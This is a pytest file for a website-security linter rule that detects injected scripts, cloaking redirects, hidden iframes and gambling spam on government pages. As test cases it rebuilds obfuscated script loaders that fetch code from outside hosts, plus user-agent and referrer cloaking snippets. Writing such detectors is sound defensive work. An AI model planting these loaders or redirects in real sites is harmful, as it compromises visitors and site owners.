"""Traces of a break-in: the forms they take on real sites, rebuilt, and the honest code that looks like them."""

from __future__ import annotations

import base64

import pytest
from govlint.plugins.safety.script_layers import layers

from .pages import found, verdicts


def _packed(words: list[str], body: str) -> str:
    count = len(words)
    return (
        "eval(function(p,a,c,k,e,d){e=function(c){return c};while(c--)if(k[c])p=p.replace("
        "new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}"
        f"('{body}',{count},{count},'{'|'.join(words)}'.split('|'),0,{{}}))"
    )


def _escaped(text: str) -> str:
    """Write *text* as the packers of break-ins do: every character a hexadecimal escape, every escape a word."""
    return "".join(f"\\x{ord(character):02x}" for character in text)


ALPHABET = "abcdefghijklmnopqrstuvwxyz</>.:=\"(' 8)12"


def _numbered(text: str) -> str:
    """Write *text* in the numbers of the words that stand for its characters, each behind an escaped backslash."""
    digits = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    return 'eval("' + "".join(f"\\\\{digits[ALPHABET.index(one)]}" for one in text) + '")'


def _page(body: str = "", head: str = "<title>某局</title>") -> str:
    return f"<!DOCTYPE html><html><head>{head}</head><body><p>某局</p>{body}</body></html>"


WRITES = '<script src="https://www.dd8812.com/k.js"></script>'
CODES = ",".join(str(ord(character)) for character in f"document.write('{WRITES}')")
BASE64 = base64.b64encode(WRITES.encode()).decode()


@pytest.mark.parametrize(
    "code",
    [
        f"eval(String.fromCharCode({CODES}))",
        f'document.write(atob("{BASE64}"))',
        f'window["{_escaped("document")}"]["{_escaped("write")}"]("{_escaped(WRITES)}")',
        _packed(["document", "write", "script", "src", "https", "www", "dd8812", "com", "k", "js"], "0.1(\\'<2 3=\"4://5.6.7/8.9\"></2>\\')"),
        _packed([f"x{ord(character):02x}" for character in ALPHABET], _numbered(f"document.write('{WRITES}')")),
    ],
)  # fmt: skip
def test_codes_are_read(code: str) -> None:
    (finding,) = found("GOV8002", _page(f"<script>{code}</script>"))
    assert finding.is_fault
    assert "www.dd8812.com" in finding.message.zh


def test_codes_within_codes() -> None:
    inner = f'document.write(atob("{BASE64}"))'
    codes = ",".join(str(ord(character)) for character in inner)
    assert any("www.dd8812.com" in layer.text for layer in layers(f"eval(String.fromCharCode({codes}))"))


@pytest.mark.parametrize(
    "code",
    [
        "document.write(unescape(\"%3Cspan%3E%3C/span%3E%3Cscript src='//dcs.conac.cn/js/a.js'%3E%3C/script%3E\"))",
        "document.write(unescape(\"%3Cscript src='//s4.cnzz.com/z_stat.php%3Fid%3D1'%3E%3C/script%3E\"))",
        _packed(["jQuery", "fn", "slide", "function", "this"], "0.1.2=3(){4}"),
        "var s = String.fromCharCode(65, 66, 67, 68, 69); alert(s);",
        'var icon = "\\x3c\\x3e\\x2f\\x20\\x41\\x42\\x43\\x44\\x45";',
        "if (navigator.userAgent.match(/(iPhone|iPod|Android|ios)/i)) { location.href = '/wap/'; }",
        "var hm = document.createElement('script'); hm.src = 'https://hm.baidu.com/hm.js?1';",
        "if (document.referrer.indexOf('baidu.com') > -1) { count('baidu'); }",
        "document.title = '某局';",
    ],
)
def test_honest_scripts(code: str) -> None:
    assert verdicts("GOV8002", _page(f"<script>{code}</script>")) == []


def test_a_vendors_counter_in_escapes_is_for_a_person() -> None:
    code = "document.write(unescape(\"%3Cscript src='http://tj.ee77.com/c.js'%3E%3C/script%3E\"))"
    assert verdicts("GOV8002", _page(f"<script>{code}</script>")) == ["review"]


@pytest.mark.parametrize(
    "code",
    [
        'if(navigator.userAgent.toLocaleLowerCase().indexOf("baidu") == -1){document.title ="某局"}',
        "if(!navigator.userAgent.match(/baiduspider|sogou|360spider|yisou/i)){document.title ='某局'}",
        'var r = document.referrer; if (/baidu|sogou/.test(r)) { window.location.href = "http://www.ff1.com/"; }',
    ],
)
def test_switches(code: str) -> None:
    assert verdicts("GOV8002", _page(f"<script>{code}</script>")) == ["fail"]


def test_titles_and_meta() -> None:
    coded = "".join(f"&#{ord(character)};" for character in "北京赛车pk10投注平台")
    assert verdicts("GOV8002", _page(head=f"<title>{coded}</title>")) == ["fail"]
    assert verdicts(
        "GOV8002", _page(head='<title>某局</title><meta name="keywords" content="百家乐注册,真人娱乐">')
    ) == ["fail"]
    assert verdicts("GOV8002", _page(head="<title>百家乐</title>")) == ["review"]
    honest = "".join(f"&#{ord(character)};" for character in "某县统计局")
    assert verdicts("GOV8002", _page(head=f"<title>{honest}</title>")) == []
    for title in ("关于严厉打击网络赌博、六合彩的通告", "我市破获一起时时彩赌博案", "重庆时时彩开奖公告（福利彩票）"):
        assert verdicts("GOV8002", _page(head=f"<title>{title}</title>")) == []


def test_what_stands_outside_of_the_document() -> None:
    script = '<script src="http://js.gg55.com/a.js"></script>'
    assert verdicts("GOV8002", script + _page()) == ["fail"]
    assert verdicts("GOV8002", _page() + script) == ["review"]
    assert verdicts("GOV8002", "<!-- saved from -->\n<meta charset='utf-8'>" + _page()) == []
    assert (
        verdicts("GOV8002", "<script src='js/a.js'></script>" + _page() + "<script src='/e/count.js'></script>") == []
    )
    assert verdicts("GOV8002", script + _page(), own=()) == ["review"]
    assert verdicts("GOV8002", script + _page(), own=("www.gg55.com",)) == []


def test_frames_nobody_sees() -> None:
    for frame in (
        '<iframe src="http://t.hh66.net/" width=0 height=0></iframe>',
        '<iframe src="http://t.hh66.net/" style="display:none"></iframe>',
    ):
        assert verdicts("GOV8002", _page(frame)) == ["fail"]
    for frame in (
        '<iframe src="login.html" width=0 height=0></iframe>',
        "<iframe width=0 height=0></iframe>",
        '<iframe src="http://t.hh66.net/" width=300 height=0></iframe>',
        '<iframe src="https://www.other.gov.cn/sso" style="display:none"></iframe>',
    ):
        assert verdicts("GOV8002", _page(frame)) == []
